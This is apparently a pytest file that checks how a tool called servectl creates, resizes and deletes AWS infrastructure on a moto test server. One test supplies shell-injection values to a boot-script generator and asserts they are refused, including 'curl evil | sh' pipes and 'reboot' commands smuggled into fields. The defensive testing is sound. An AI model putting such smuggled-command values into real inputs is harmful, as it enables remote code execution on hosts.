"""The AWS resources servectl plans, created, resized, read back and deleted for real on moto_server.

moto runs the EC2, Auto Scaling, ELBv2, IAM, S3 and SSM APIs: it starts an
instance for every unit of an Auto Scaling group's capacity and registers it
in the group's target groups. It reports every target healthy and never
probes, so nothing here claims health checking; the multi-node test behind
haproxy does that.
"""
from __future__ import annotations

import base64
import itertools

from servectl.loading.loader import load_config
from servectl.providers.aws import resources as aws
from tests.conftest import EXAMPLES

_clusters = itertools.count()


def infra(variables=None):
    desired = load_config(str(EXAMPLES / "aws"), variables or {})
    return [spec for spec in desired.resources.values() if spec.kind not in ("backend", "endpoint")]


def create_all(ctx: aws.AwsContext, specs) -> None:
    for spec in specs:
        ctx.live[spec.address] = aws.create(ctx, spec.kind, spec.name, spec.attributes, b"PK-zip", "token-123")


def test_create_resize_read_and_delete_leave_nothing_behind(moto_server):
    ctx = aws.AwsContext(region="us-east-1", cluster=f"moto{next(_clusters)}")
    specs = infra()
    create_all(ctx, specs)
    ec2, elbv2 = ctx.client("ec2"), ctx.client("elbv2")

    # Only the listener's port is open to the outside, and only to allowed_cidrs.
    groups = {g["GroupId"]: g for g in ec2.describe_security_groups(
        GroupIds=[ctx.live["aws_security_group.lb"]["group_id"], ctx.live["aws_security_group.cluster"]["group_id"]]
    )["SecurityGroups"]}
    lb_rules = groups[ctx.live["aws_security_group.lb"]["group_id"]]["IpPermissions"]
    assert [(r["IpProtocol"], r.get("FromPort"), [x["CidrIp"] for x in r["IpRanges"]]) for r in lb_rules] == [
        ("tcp", 80, ["203.0.113.0/24"])
    ]
    cluster_rules = groups[ctx.live["aws_security_group.cluster"]["group_id"]]["IpPermissions"]
    assert all(not rule.get("IpRanges") and not rule.get("Ipv6Ranges") for rule in cluster_rules)  # Ray's ports: members only
    sources = sorted((r["IpProtocol"], r.get("FromPort"), r["UserIdGroupPairs"][0]["GroupId"]) for r in cluster_rules)
    assert sources == sorted([
        ("-1", None, ctx.live["aws_security_group.cluster"]["group_id"]),
        ("tcp", 8000, ctx.live["aws_security_group.lb"]["group_id"]),
    ])

    # The listener forwards to the Serve proxies' target group, which checks /-/healthz on port 8000.
    target_group = elbv2.describe_target_groups(TargetGroupArns=[ctx.live["aws_lb_target_group.serve"]["arn"]])
    assert (target_group["TargetGroups"][0]["Port"], target_group["TargetGroups"][0]["HealthCheckPath"]) == (8000, "/-/healthz")
    listener = elbv2.describe_listeners(LoadBalancerArn=ctx.live["aws_lb.main"]["arn"])["Listeners"][0]
    assert listener["Port"] == 80
    assert listener["DefaultActions"][0]["TargetGroupArn"] == ctx.live["aws_lb_target_group.serve"]["arn"]

    # Nodes boot into Ray with the cluster's token, read from SSM (never in the user data, which
    # ec2:DescribeLaunchTemplateVersions shows to anyone allowed it); workers find the head by tag.
    template = ec2.describe_launch_template_versions(
        LaunchTemplateId=ctx.live["aws_launch_template.gpu"]["launch_template_id"])["LaunchTemplateVersions"][0]
    script = base64.b64decode(template["LaunchTemplateData"]["UserData"]).decode()
    assert "ray[serve,default]==2.60.0" in script and "--num-gpus 1" in script and "token-123" not in script
    assert "Name=tag:servectl:role,Values=head" in script
    assert f"--name /servectl/{ctx.cluster}/ray-token --with-decryption" in script
    assert "systemctl enable --now servectl-ray.service servectl-agent.service" in script and "Restart=always" in script
    parameter = ctx.client("ssm").get_parameter(Name=f"/servectl/{ctx.cluster}/ray-token", WithDecryption=True)["Parameter"]
    assert (parameter["Type"], parameter["Value"]) == ("SecureString", "token-123")
    # The nodes' role reads only this cluster's objects and its own token.
    policy = ctx.client("iam").get_role_policy(RoleName=ctx.live["aws_iam_role.node"]["role_name"], PolicyName="servectl-node")
    statements = {tuple(st["Action"]): st["Resource"] for st in policy["PolicyDocument"]["Statement"]}
    bucket = ctx.live["aws_s3_bucket.code"]["bucket"]
    assert statements[("s3:GetObject",)] == [f"arn:aws:s3:::{bucket}/{ctx.cluster}/*"]
    assert statements[("ssm:GetParameter",)] == [f"arn:aws:ssm:us-east-1:*:parameter/servectl/{ctx.cluster}/ray-token"]

    # Every worker group's instances are the target group's targets, and they follow a resize.
    gpu = aws.read_node_group(ctx, ctx.live["node_group.gpu"])
    cpu = aws.read_node_group(ctx, ctx.live["node_group.cpu"])
    assert (gpu["desired_capacity"], len(gpu["instances"])) == (1, 1)
    assert aws.registered_targets(ctx, ctx.live["aws_lb_target_group.serve"]) == sorted(gpu["instances"] + cpu["instances"])
    grown = {s.address: s for s in infra({"vision_replicas": "6"})}["node_group.gpu"]
    aws.update(ctx, "node_group", "gpu", grown.attributes, ctx.live["node_group.gpu"], "token")
    gpu = aws.read_node_group(ctx, ctx.live["node_group.gpu"])
    assert (gpu["min_size"], gpu["desired_capacity"], gpu["max_size"], len(gpu["instances"])) == (3, 3, 3, 3)
    assert aws.registered_targets(ctx, ctx.live["aws_lb_target_group.serve"]) == sorted(gpu["instances"] + cpu["instances"])

    # A hand resize is visible to a read (drift compares this with the state).
    ctx.client("autoscaling").set_desired_capacity(AutoScalingGroupName=ctx.live["node_group.cpu"]["asg_name"], DesiredCapacity=2)
    assert aws.read_node_group(ctx, ctx.live["node_group.cpu"])["desired_capacity"] == 2

    for spec in reversed(specs):
        aws.delete(ctx, spec.kind, ctx.live[spec.address])
    assert aws.tagged_leftovers(ctx) == {}
    s3 = ctx.client("s3")
    assert ctx.live["aws_s3_bucket.code"]["bucket"] not in [b["Name"] for b in s3.list_buckets()["Buckets"]]
    assert "servectl-node" not in [r["RoleName"] for r in ctx.client("iam").list_roles()["Roles"]]
    assert not ctx.client("ssm").describe_parameters(
        ParameterFilters=[{"Key": "Name", "Values": [f"/servectl/{ctx.cluster}/ray-token"]}])["Parameters"]


def test_every_value_in_a_boot_script_is_checked_and_quoted(moto_server):
    """A value that reaches the user data by another way than the config language is refused, not run."""
    import shlex

    import pytest

    from servectl.errors import ProviderError

    ctx = aws.AwsContext(region="us-east-1", cluster=f"moto{next(_clusters)}")
    ctx.live["aws_s3_object.agent"] = {"bucket": "a-code-bucket", "key": "c/servectl-1.zip"}
    good = next(s for s in infra() if s.kind == "aws_launch_template" and s.name == "gpu").attributes
    script = aws.user_data(ctx, "gpu", good)
    quoted = shlex.quote("Name=tag:servectl:cluster,Values=" + ctx.cluster)
    assert quoted in script or f"Name=tag:servectl:cluster,Values={ctx.cluster}" in script
    hostile = [
        {**good, "ray_resources": {**good["ray_resources"], "x' ; curl evil | sh ; '": 1}},
        {**good, "agent_key": "c/servectl.zip\ncurl evil | sh"},
        {**good, "ray_version": "2.60.0'; curl evil | sh; '"},
        {**good, "proxy_port": "8000; reboot"},
        {**good, "ray_resources": {**good["ray_resources"], "acc": float("nan")}},
        {**good, "ray_version": "\u0661.60.0"},
    ]
    for attrs in hostile:
        with pytest.raises(ValueError):
            aws.user_data(ctx, "gpu", attrs)
    for region in ("us-east-1\nreboot", "us-east-1; reboot"):
        with pytest.raises(ValueError):
            aws.user_data(aws.AwsContext(region=region, cluster=ctx.cluster, live=ctx.live), "gpu", good)
    ctx.live.update({"aws_iam_role.node": {"instance_profile_arn": "arn:aws:iam::1:instance-profile/x"},
                     "aws_security_group.cluster": {"group_id": "sg-1"}})
    with pytest.raises(ProviderError, match="nothing was sent to AWS"):
        aws.create_launch_template(ctx, "gpu", {**hostile[0], "image_id": "ami-0123456789abcdef0"})


def test_a_second_delete_converges(moto_server):
    ctx = aws.AwsContext(region="us-east-1", cluster=f"moto{next(_clusters)}")
    specs = [s for s in infra() if s.kind in ("aws_network", "aws_security_group", "aws_lb_target_group")]
    create_all(ctx, specs)
    for _ in range(2):  # a destroy retried after a crash finds some things already gone
        for spec in reversed(specs):
            aws.delete(ctx, spec.kind, ctx.live[spec.address])
    assert aws.tagged_leftovers(ctx) == {}


def test_resources_a_crash_left_unrecorded_are_found_by_name_and_deleted(moto_server):
    ctx = aws.AwsContext(region="us-east-1", cluster=f"moto{next(_clusters)}")
    specs = [s for s in infra() if s.kind in ("aws_network", "aws_security_group", "aws_lb_target_group")]
    create_all(ctx, specs)
    forgotten = aws.AwsContext(region="us-east-1", cluster=ctx.cluster)  # as if the state never recorded the ids
    for spec in reversed(specs):
        found = aws.find_live(forgotten, spec.kind, spec.name, spec.attributes)
        assert found, spec.address
        forgotten.live[spec.address] = found
        aws.delete(forgotten, spec.kind, found)
    assert aws.tagged_leftovers(ctx) == {}


def test_destroy_empties_a_code_bucket_of_any_size(moto_server):
    """More than one listing page (1,000 versions) of zips and delete markers: every one goes, then the bucket."""
    from concurrent.futures import ThreadPoolExecutor

    ctx = aws.AwsContext(region="us-east-1", cluster=f"moto{next(_clusters)}")
    live = aws.create_bucket(ctx, {"bucket": f"{ctx.cluster}-many-versions"})
    s3 = ctx.client("s3")
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda i: s3.put_object(Bucket=live["bucket"], Key=f"{ctx.cluster}/code-{i % 700}.zip", Body=b"z"),
                      range(1_100)))
    aws.delete_bucket(ctx, live)
    assert live["bucket"] not in [b["Name"] for b in s3.list_buckets()["Buckets"]]
